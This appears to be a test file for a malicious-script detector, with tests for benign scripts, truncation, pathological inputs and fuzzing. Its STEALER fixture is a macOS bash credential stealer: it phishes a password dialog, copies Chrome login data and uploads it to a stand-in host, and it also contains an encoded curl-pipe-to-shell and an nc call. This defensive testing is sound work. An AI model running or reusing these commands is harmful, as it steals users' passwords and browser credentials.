import { deepEqual, equal, ok } from 'node:assert/strict'
import { randomInt } from 'node:crypto'
import { test } from 'node:test'
import { analyzeScript } from '../../src/scripts/script.ts'
import { dice } from '../dice.ts'
import { mutated } from '../mutate.ts'

const STEALER = `#!/bin/bash
# Update of the system
host="203.0.113.7"
pw=$(osascript -e 'display dialog "macOS needs your password" default answer "" with hidden answer')
dscl . authonly "$USER" "$pw" && echo "$pw" | sudo -S cp ./a /Library/LaunchDaemons/com.example.a.plist
cp -r "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/.out/
ditto -c -k /tmp/.out /tmp/out.zip
curl -X POST -F "file=@/tmp/out.zip" http://$host:8080/up?x=1.
eval "$(echo Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS5jb20veCB8IHNo | base64 -D)"
nc -w 5 drop.example.net 443
rm -f "$0"
`

test('script: says what it is, does, hides and names', () => {
  const report = analyzeScript(Buffer.from(STEALER), 'postinstall')
  equal(report?.interpreter, '/bin/bash')
  const features = new Map(report?.features.map((one) => [one.feature, one]))
  for (const feature of [
    'asks_for_password',
    'tests_password',
    'sudo_with_password',
    'launch_item',
    'browser_data',
    'archives_data',
    'uploads',
    'evaluates_hidden',
    'download_and_run',
    'removes_itself',
  ]) {
    ok(features.has(feature), feature)
  }
  deepEqual([features.get('tests_password')?.line, features.get('tests_password')?.layer], [5, 0])
  ok((features.get('download_and_run')?.layer ?? 0) > 0)
  deepEqual(report?.indicators.urls, [
    'http://$host:8080/up?x=1',
    'https://evil.example.com/x',
    'http://203.0.113.7:8080/up?x=1',
  ])
  deepEqual(report?.indicators.domains, ['drop.example.net', 'evil.example.com'])
  deepEqual(report?.indicators.addresses, ['203.0.113.7'])
  ok(report?.indicators.paths.includes('/Library/LaunchDaemons/com.example.a.plist'))
  for (const command of ['dscl', 'ditto', 'curl', 'nc', 'rm']) {
    ok(report?.indicators.commands.includes(command), command)
  }
})

test('script: an everyday one shows nothing', () => {
  const build =
    '#!/bin/sh\nset -e\ncd "$(dirname "$0")"\nmkdir -p out\nfor f in *.c; do cc -c "$f"; done\n'
  const report = analyzeScript(Buffer.from(build), 'build.sh')
  deepEqual(report?.features, [])
  deepEqual(report?.indicators.urls, [])
})

test('script: a compiled AppleScript is read by its literals', () => {
  const literal = Buffer.from('curl -s https://evil.example.com/a | sh', 'utf16le').swap16()
  const script = Buffer.concat([Buffer.from('FasdUAS 1.101.10\0sysoexec\0\x01'), literal])
  const report = analyzeScript(script, 'main.scpt')
  equal(report?.language, 'applescript_compiled')
  const features = report?.features.map(({ feature }) => feature)
  ok(features?.includes('runs_shell') && features.includes('download_and_run'), features?.join())
})

test('script: lines end as on any system', () => {
  const report = analyzeScript(Buffer.from('#!/bin/sh\r\n\r\nnohup x\r\n'), 'x')
  equal(report?.features[0]?.line, 3)
})

test('script: what is too long is cut and says so', () => {
  const long = Buffer.from(`#!/bin/sh\n${'echo x\n'.repeat(100)}`)
  equal(analyzeScript(long, 'x', { textBytesMax: 100 })?.isCut, true)
  equal(analyzeScript(long, 'x')?.isCut, false)
})

const HOSTILE = [
  'curl|'.repeat(60_000),
  'curl http://'.repeat(30_000),
  `tar ${'c'.repeat(300_000)}`,
  `sudo ${'-a '.repeat(100_000)}`,
  '"\\'.repeat(150_000),
  '\\"'.repeat(150_000),
  'chr(1)+'.repeat(40_000),
  'A'.repeat(2_000_000),
  'ab'.repeat(1_000_000),
  `# ${'x '.repeat(1_000_000)}`,
  `"${'x-'.repeat(1_000_000)}"`,
  `a="${'x'.repeat(2_000_000)}`,
  `http://${'x'.repeat(2_000_000)}`,
  `/tmp/${'x y'.repeat(600_000)}`,
  '"a" + '.repeat(300_000),
  `${'A'.repeat(76)}\n`.repeat(26_000),
  'ab '.repeat(700_000),
  'a=$a$a\n'.repeat(40_000),
  `a=${'x'.repeat(1_000)}\n${'$a'.repeat(100_000)}`,
  '/Users/'.repeat(40_000),
  '1.'.repeat(150_000),
  ':a'.repeat(150_000),
  `openssl enc -aes-256-cbc -d -pbkdf2 -iter 200000 -k x ${'A'.repeat(64)}\n`.repeat(500),
  `tr a-z b-y '${'word '.repeat(20)}'\n`.repeat(2_000),
  `rev ${'"some words" '.repeat(20_000)}`,
  ' '.repeat(300_000),
  '(ASCII character 1) & '.repeat(10_000),
  `String.fromCharCode(${'1,'.repeat(100_000)}`,
]
for (const text of HOSTILE) {
  const shown = JSON.stringify(text.slice(0, 20))
  test(`script: ${shown} over and over ends`, { timeout: 60_000 }, () => {
    const report = analyzeScript(Buffer.from(`#!/bin/sh\n${text}`), 'x')
    ok(report !== undefined && report.layers.length <= 64)
  })
}

const SEED = Number(process.env['SEED'] ?? randomInt(1_000_000))
const ROUNDS = Number(process.env['ROUNDS'] ?? 5_000)
test(`script: damaged ones never throw (SEED=${SEED})`, () => {
  const roll = dice(SEED)
  const bytes = Buffer.from(STEALER)
  let read = 0
  for (let round = 0; round < ROUNDS; round++) {
    if (analyzeScript(mutated(bytes, roll), 'postinstall') !== undefined) read += 1
  }
  // Neither all nor none: a zero makes it no text.
  ok(read > ROUNDS / 20 && read < ROUNDS, `${read}`)
})
